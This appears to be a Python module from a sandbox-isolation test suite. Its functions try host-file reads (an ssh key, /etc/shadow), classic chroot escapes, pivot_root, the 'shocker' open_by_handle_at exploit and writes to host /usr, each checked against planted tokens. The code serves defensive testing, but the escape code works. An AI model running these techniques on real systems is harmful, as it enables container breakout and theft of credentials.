"""Files of the host, and ways out of the root directory."""

from __future__ import annotations

import ctypes
import hashlib
import mmap
import os
import tempfile

from attacks.table import Facts, attack, call, holds, in_child, is_there, read, writable

_UP = "/".join([".."] * 64)


@attack()
def file_by_path(facts: Facts) -> str | None:
    """A private file of the caller (an ssh key) is read."""
    return holds(facts.secret, facts.host.token)


@attack()
def file_by_many_dots(facts: Facts) -> str | None:
    """Enough '..' lead above the root."""
    return holds(f"/{_UP}{facts.secret}", facts.host.token)


@attack(by="root")
def password_file(facts: Facts) -> str | None:
    """/etc/shadow of the host is read."""
    same = hashlib.sha256(read("/etc/shadow")).hexdigest() == facts.shadow
    return "/etc/shadow" if same else None


@attack()
def entry_of_run(facts: Facts) -> str | None:
    """/run of the host is seen, with the sockets of its services."""
    return facts.run[0] if is_there(facts.run) else None


@attack()
def temporary_file_of_the_host(facts: Facts) -> str | None:
    """Files in the host's /tmp are read."""
    return holds(f"/tmp/{facts.host.token}", facts.host.token)


@attack()
def temporary_file_of_a_neighbour(facts: Facts) -> str | None:
    """Files in the /tmp of another sandbox are read."""
    return holds(f"/tmp/{facts.neighbour.token}", facts.neighbour.token)


@attack(by="root")
def double_chroot(facts: Facts) -> str | None:
    """The classic way out of a chroot: a second one, with the working directory left outside."""

    def leave() -> str | None:
        inner = tempfile.mkdtemp()
        os.chdir("/")
        os.chroot(inner)
        os.chdir(_UP)
        os.chroot(".")
        return holds(facts.secret, facts.host.token)

    return in_child(leave)


@attack(by="root")
def chroot_and_fchdir(facts: Facts) -> str | None:
    """The same with a descriptor that was opened before the root changed."""

    def leave() -> str | None:
        outside = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        os.chroot(tempfile.mkdtemp())
        os.fchdir(outside)
        os.chdir(_UP)
        os.chroot(".")
        return holds(facts.secret, facts.host.token)

    return in_child(leave)


@attack(by="root", mounts=True)
def pivot_root(facts: Facts) -> str | None:
    """The root is exchanged, and what lay below it comes up."""

    def leave() -> str | None:
        inner = tempfile.mkdtemp()
        call("mount", b"none", inner.encode(), b"tmpfs", 0, None)
        os.mkdir(f"{inner}/old")
        call("pivot_root", inner.encode(), f"{inner}/old".encode())
        return "the root is another one"

    return in_child(leave)


@attack(by="root")
def open_by_handle(facts: Facts) -> str | None:
    """A file handle opens files of the host by number (the exploit named shocker)."""
    kind, encoded = facts.handle
    content = bytes.fromhex(encoded)

    class Handle(ctypes.Structure):
        _fields_ = [
            ("size", ctypes.c_uint),
            ("kind", ctypes.c_int),
            ("bytes", ctypes.c_ubyte * len(content)),
        ]

    handle = Handle(len(content), kind, (ctypes.c_ubyte * len(content))(*content))
    refusal: OSError | None = None
    # Any file will do that lies on the file system in question, a bind mount of a single one too.
    for path in ("/", "/usr", "/tmp", "/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/proc"):
        if not os.path.exists(path):
            continue
        place = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            found = call("open_by_handle_at", place, ctypes.byref(handle), os.O_RDONLY)
        except OSError as error:
            refusal = error
            continue
        finally:
            os.close(place)
        if facts.host.token.encode() in os.read(found, 4096):
            return f"opened through {path}"
    if refusal is not None:
        raise refusal
    return None


@attack(by="root")
def write_to_usr(facts: Facts) -> str | None:
    """Programs of the host, which root runs, are changed."""
    if not is_there(facts.program):
        return None
    return writable(facts.program[0])


@attack(by="root", mounts=True)
def remount_usr_writable(facts: Facts) -> str | None:
    """The same after the mount was made writable again."""
    if not is_there(facts.program):
        return None
    remount, bind = 32, 4096
    if not os.path.ismount("/usr"):
        call("mount", b"/usr", b"/usr", None, bind, None)
    call("mount", None, b"/usr", None, remount | bind, None)
    return writable(facts.program[0])


@attack(by="root")
def modes_of_usr(facts: Facts) -> str | None:
    """The mode of a program of the host is set (to what it is)."""
    if not is_there(facts.program):
        return None
    os.chmod(facts.program[0], os.stat(facts.program[0]).st_mode & 0o7777)
    return "set"


@attack(by="root")
def shared_mapping_of_usr(facts: Facts) -> str | None:
    """A library of the host is mapped for writing, shared."""
    if not is_there(facts.program):
        return None
    fd = os.open(facts.program[0], os.O_RDWR)
    with mmap.mmap(fd, 0, prot=mmap.PROT_READ | mmap.PROT_WRITE):
        return "mapped"


@attack(by="root")
def hard_link_to_usr(facts: Facts) -> str | None:
    """A second name of a file of the host, to change it by, where there are no mount flags."""
    if not is_there(facts.program):
        return None
    name = f"{facts.program[0]}.link"
    os.link(facts.program[0], name)
    os.unlink(name)
    return name


@attack(by="root")
def file_in_usr(facts: Facts) -> str | None:
    """A module that Python loads on the host is put there."""
    if not is_there(facts.program):
        return None
    os.rmdir(tempfile.mkdtemp(dir=os.path.dirname(facts.program[0])))
    return "a directory was made and removed"
